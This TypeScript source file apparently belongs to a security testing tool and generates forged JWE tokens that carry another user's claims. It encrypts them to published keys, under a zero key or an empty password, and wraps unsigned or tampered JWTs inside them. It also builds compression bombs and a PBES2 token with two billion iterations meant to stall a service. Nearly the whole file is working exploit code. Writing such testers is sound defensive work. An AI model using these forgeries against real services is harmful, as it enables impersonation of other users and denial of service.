import { CompactEncrypt, importJWK, type JWK } from 'jose'
import { omitUndefined } from '../omit-undefined.ts'
import { base64url, encodedJson, type Forgery, forged, forUser, type Original } from './forge.ts'

/** The content of a forged JWE. */
interface Content {
  readonly bytes: Uint8Array
  readonly header?: Readonly<Record<string, unknown>>
}

const enc = 'A256GCM'
/** Bounds the work where a service publishes many keys. */
const mostKeys = 4
/** By the kind of a key; the usual one first. */
const algorithms: Readonly<Record<string, readonly string[]>> = {
  EC: ['ECDH-ES', 'ECDH-ES+A256KW'],
  RSA: ['RSA-OAEP', 'RSA-OAEP-256'],
}
const megabyte = 1024 * 1024

type Made = Pick<Forgery, 'name' | 'token'>

/** Tokens with another user's claims that anyone can encrypt, to a published key or under a known one. */
export async function encryptedForgeries(
  original: Original,
  otherUser: string,
  published: readonly JWK[],
): Promise<Forgery[]> {
  const contents = contentsFor(original, otherUser)
  const made = await Promise.all([
    ...published
      .slice(0, mostKeys)
      .flatMap((jwk) =>
        algorithmsOf(jwk).flatMap((alg) =>
          contents.map((content) =>
            toPublishedKey(jwk, alg, content, `with ${content.name} encrypted to a published key by ${alg}`),
          ),
        ),
      ),
    ...contents.flatMap((content) => [
      underZeroKey(content, `with ${content.name} encrypted under a key of zero bytes`),
      underEmptyPassword(content, `with ${content.name} encrypted under an empty password`),
    ]),
  ])
  return [...made.flat(), withManyIterations()].map((one) => ({ ...one, userId: otherUser }))
}

/** Sizes that fit into a header of an upgrade, and into a message. */
export const bombMegabytes = { header: 4, message: 64 } as const

/** Encrypted tokens whose content is compressed a thousand times (RFC 7516, `zip`), to keys as above. */
export async function compressionBombs(
  userId: string,
  published: readonly JWK[],
  megabytes: number,
): Promise<Forgery[]> {
  const content = { bytes: Buffer.alloc(megabytes * megabyte, ' '), header: { zip: 'DEF' } }
  const nameOf = (alg: string) => `that is ${megabytes} MB when its content is inflated, encrypted by ${alg}`
  const made = await Promise.all([
    ...published.slice(0, mostKeys).flatMap((jwk) =>
      algorithmsOf(jwk)
        .slice(0, 1)
        .map((alg) => toPublishedKey(jwk, alg, content, nameOf(alg))),
    ),
    underZeroKey(content, nameOf('dir')),
  ])
  return made.flat().map((one) => ({ ...one, userId }))
}

function contentsFor(original: Original, otherUser: string): (Content & { readonly name: string })[] {
  const payload = forUser(original, otherUser)
  const unsigned = `${base64url(encodedJson({ alg: 'none', typ: 'JWT' }))}.${base64url(payload)}.`
  const nested = { cty: 'JWT' }
  return [
    { name: 'claims', bytes: payload },
    { name: 'an unsigned token', bytes: Buffer.from(unsigned), header: nested },
    { name: 'a tampered token', bytes: Buffer.from(forged(original, { payload })), header: nested },
  ]
}

function algorithmsOf({ kty = '' }: JWK): readonly string[] {
  return algorithms[kty] ?? []
}

async function toPublishedKey(jwk: JWK, alg: string, content: Content, name: string): Promise<Made[]> {
  const { kty = '', crv, x, y, n, e, kid } = jwk
  // A key for signatures is one of the same kind for encryption.
  const plain: JWK =
    kty === 'EC' ? { kty, crv: crv ?? '', x: x ?? '', y: y ?? '' } : { kty, n: n ?? '', e: e ?? '' }
  try {
    const key = await importJWK(plain, alg)
    const header = omitUndefined({ alg, enc, kid, ...content.header })
    return [{ name, token: await new CompactEncrypt(content.bytes).setProtectedHeader(header).encrypt(key) }]
  } catch {
    // A key that cannot encrypt is no way in.
    return []
  }
}

async function underZeroKey({ bytes, header }: Content, name: string): Promise<Made[]> {
  const jwe = new CompactEncrypt(bytes).setProtectedHeader({ alg: 'dir', enc, ...header })
  return [{ name, token: await jwe.encrypt(new Uint8Array(32)) }]
}

async function underEmptyPassword({ bytes, header }: Content, name: string): Promise<Made[]> {
  const jwe = new CompactEncrypt(bytes)
    .setProtectedHeader({ alg: 'PBES2-HS256+A128KW', enc, ...header })
    .setKeyManagementParameters({ p2c: 1000 })
  return [{ name, token: await jwe.encrypt(new Uint8Array()) }]
}

/** A service that derives the key before it looks at p2c is busy for minutes. */
function withManyIterations(): Made {
  const bytes = (count: number) => base64url(new Uint8Array(count).fill(7))
  const header = { alg: 'PBES2-HS256+A128KW', enc, p2s: bytes(16), p2c: 2_147_483_647 }
  const parts = [base64url(encodedJson(header)), bytes(40), bytes(12), bytes(64), bytes(16)]
  return { name: 'with two billion iterations in p2c', token: parts.join('.') }
}
